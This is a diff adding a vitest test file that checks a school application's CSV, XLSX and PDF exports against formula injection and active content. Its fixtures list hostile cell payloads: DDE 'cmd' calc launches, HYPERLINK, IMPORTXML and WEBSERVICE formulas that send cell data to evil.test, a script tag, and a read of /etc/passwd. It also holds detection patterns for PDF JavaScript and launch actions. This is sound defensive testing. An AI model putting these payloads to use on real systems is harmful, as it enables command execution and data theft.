@@ -1,0 +1,149 @@
+import { parseCsv } from 'hucre/csv'
+import { readXlsx } from 'hucre/xlsx'
+import { afterAll, expect, test } from 'vitest'
+import { unguarded } from '#server/csv.ts'
+import { bytesOf, listOf, named, textOf } from '#server/exports.fixture.ts'
+import { stopPdf } from '#server/pdf/pdf.ts'
+import { routes } from '#server/routes.ts'
+import { twoOfEverything } from '../two-of-everything.ts'
+import { createWorld } from '../world.ts'
+import { randomOf } from './random.ts'
+import { entriesOf, pdfText } from './unpacked.ts'
+
+afterAll(stopPdf)
+
+const BEGINNINGS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  ' =',
+  '\u00a0=',
+  "'=",
+  '"=',
+  ';=',
+  ',=',
+  '\ufeff=',
+  '\t\r=',
+  '%=',
+  '|',
+  '0=',
+  '',
+]
+const ORDERS = [
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.test/?"&A1,"ver")',
+  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+  'WEBSERVICE("https://evil.test/")',
+  'SUM(1+1)*cmd|x',
+  'DDE("cmd";"/C calc";"x")',
+  '1+1',
+  '2026-01-01',
+  '1e5',
+  'A1',
+  '"a";"b"',
+  '<script>alert(1)</script>',
+  '#import "evil.typ"',
+  '#read("/etc/passwd")',
+  '#link("https://evil.test")[x]',
+  '$x$ \\ *a* _b_ `c` @d <e>',
+  '\u202e\u2066رقم',
+  '👩‍👩‍👧‍👦 e\u0301'.repeat(5),
+  '_x0041_ _x000D_',
+  ']]>&amp;<a/>&#0;',
+]
+const random = randomOf(5)
+const CELLS = Array.from(
+  { length: 5_000 },
+  (_, at) => `${BEGINNINGS[at % BEGINNINGS.length]}${random.pick(ORDERS)}${at}`,
+)
+
+const RUNS = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/
+
+test('csv: of 5,000 hostile cells none would be run, and each can be had back', async () => {
+  const text = textOf(await bytesOf('csv', listOf(CELLS.map(named))))
+  const cells = parseCsv(text, { delimiter: ';' })
+    .slice(1)
+    .map(([name]) => String(name))
+  expect(cells.filter((cell) => RUNS.test(cell))).toEqual([])
+  expect(cells.map(unguarded)).toEqual(CELLS)
+})
+
+test('xlsx: 5,000 hostile cells are texts; no formula, no link, no macro, no entity', async () => {
+  const bytes = Buffer.from(await bytesOf('xlsx', listOf(CELLS.map(named))))
+  const entries = entriesOf(bytes)
+  expect(
+    [...entries.keys()].filter((name) =>
+      /external|vba|macro|embed|ctrlProps|activeX|connections/i.test(name),
+    ),
+  ).toEqual([])
+  for (const [name, xml] of entries) {
+    expect(xml, name).not.toMatch(/<f[ >/]|<!DOCTYPE|<!ENTITY|TargetMode="External"|<hyperlink|ddeLink/)
+  }
+  const { sheets } = await readXlsx(new Uint8Array(bytes))
+  const cells = sheets[0]?.rows.slice(1).map(([name]) => name)
+  expect(cells?.every((cell) => typeof cell === 'string')).toBe(true)
+  // What XML itself reads as one line end.
+  const lines = (text: unknown) => String(text).replaceAll(/\r\n?/g, '\n')
+  expect(cells?.map(lines)).toEqual(CELLS.map(lines))
+})
+
+const ACTIVE =
+  /\/(?:JavaScript|JS|OpenAction|AA|Launch|SubmitForm|ImportData|GoToR|GoToE|URI|EmbeddedFiles?|RichMedia|XFA|Movie|Sound)\b/
+
+test('pdf: hostile cells, and names without end, do nothing and break nothing', {
+  timeout: 120_000,
+}, async () => {
+  const long = [
+    'a'.repeat(10_000),
+    'ab '.repeat(3_000),
+    '\u202e'.repeat(2_000),
+    '👩‍👩‍👧‍👦'.repeat(500),
+    'رقم '.repeat(2_000),
+  ]
+  const bytes = Buffer.from(await bytesOf('pdf', listOf([...CELLS.slice(0, 1_500), ...long].map(named))))
+  expect(bytes.subarray(0, 5).toString()).toBe('%PDF-')
+  expect(ACTIVE.exec(pdfText(bytes))?.[0]).toBeUndefined()
+})
+
+test('every list that can be had as a file gives all three, with what hostile people wrote in them', {
+  timeout: 120_000,
+}, async () => {
+  const world = await createWorld()
+  const objects = await twoOfEverything(world)
+  await world.db.updateTable('students').set({ first_name: '=cmd|calc', last_name: '@SUM(1+1)' }).execute()
+  await world.db.updateTable('courses').set({ title: '+1+1' }).execute()
+  const wrong: string[] = []
+  for (const { endpoint } of routes.filter((one) => one.endpoint.exports)) {
+    const path = endpoint.path
+      .replace('{id}', String(objects.section.own))
+      .replace('{section_id}', String(objects.section.own))
+      .replace('{course_id}', String(objects.course.own))
+    for (const format of ['csv', 'xlsx', 'pdf']) {
+      const { status, headers, bytes, body } = await world
+        .as('admin')
+        .call('GET', path, undefined, { query: { format } })
+      const name = `${path} ${format}`
+      if (status !== 200) wrong.push(`${name}: ${status} ${JSON.stringify(body)}`)
+      if (!String(headers['content-disposition']).startsWith('attachment; filename='))
+        wrong.push(`${name}: shown`)
+      if (format === 'csv' && /(?:^|;)"?[=+@]/m.test(String(body))) wrong.push(`${name}: runs`)
+      if (format === 'xlsx' && [...entriesOf(bytes).values()].some((xml) => /<f[ >/]/.test(xml)))
+        wrong.push(`${name}: formula`)
+    }
+  }
+  expect(wrong).toEqual([])
+})
+
+test('control: a formula, a link out and a script are each found', () => {
+  expect(RUNS.test('=1+1') && RUNS.test('\u00a0@x') && !RUNS.test("'=1+1")).toBe(true)
+  expect('<c r="A1"><f>1+1</f></c>').toMatch(/<f[ >/]/)
+  expect(ACTIVE.test('<</S/JavaScript/JS(app.alert(1))>>') && ACTIVE.test('/A<</URI(x)>>')).toBe(true)
+})
